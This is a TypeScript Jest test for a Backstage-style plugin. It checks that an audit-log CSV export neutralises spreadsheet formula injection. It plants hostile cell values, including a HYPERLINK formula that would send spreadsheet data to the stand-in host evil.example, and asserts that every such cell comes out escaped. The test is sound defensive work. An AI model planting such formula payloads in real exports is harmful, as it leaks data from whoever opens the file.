import { resolvePackagePath } from '@backstage/backend-plugin-api';
import { mockCredentials, mockServices } from '@backstage/backend-test-utils';
import { MiddlewareFactory } from '@backstage/backend-defaults/rootHttpRouter';
import express from 'express';
import request from 'supertest';
import { createTestDatabases } from '../__testUtils__/databases';
import { AuditService } from '../kernel/audit/AuditService';
import { KnexAuditStore } from '../kernel/audit/KnexAuditStore';
import { createAuditRouter } from './router';

jest.setTimeout(60_000);
const databases = createTestDatabases();

describe('audit CSV export', () => {
  it('defuses formula prefixes in every cell', async () => {
    const knex = await databases.init('SQLITE_3');
    await knex.migrate.latest({
      directory: resolvePackagePath(
        '@gantry/plugin-gantry-backend',
        'migrations',
      ),
    });
    const audit = new AuditService(new KnexAuditStore(knex));
    // Actors and entity refs come from callers; a planted one must not run in a spreadsheet.
    await audit.record({
      actor: '=HYPERLINK("http://evil.example/?"&A1)',
      action: '+cmd',
      entityRef: '@SUM(1+1)',
    });
    await audit.record({ actor: '-2+3', action: '\tx', entityRef: '\r=1' });

    const app = express();
    app.use(
      createAuditRouter({
        httpAuth: mockServices.httpAuth(),
        permissions: mockServices.permissions(),
        audit,
      }),
    );
    app.use(
      MiddlewareFactory.create({
        config: mockServices.rootConfig(),
        logger: mockServices.logger.mock(),
      }).error(),
    );
    const res = await request(app)
      .get('/audit/export?format=csv')
      .set('Authorization', mockCredentials.user.header());
    expect(res.status).toBe(200);
    const lines = res.text.trim().split('\n');
    expect(lines[1]).toContain(
      `,"'=HYPERLINK(""http://evil.example/?""&A1)",'+cmd,'@SUM(1+1),`,
    );
    expect(lines[2]).toContain(`,'-2+3,'\tx,"'\r=1",`);
    for (const line of lines.slice(1)) {
      for (const cell of line.split(',')) {
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});
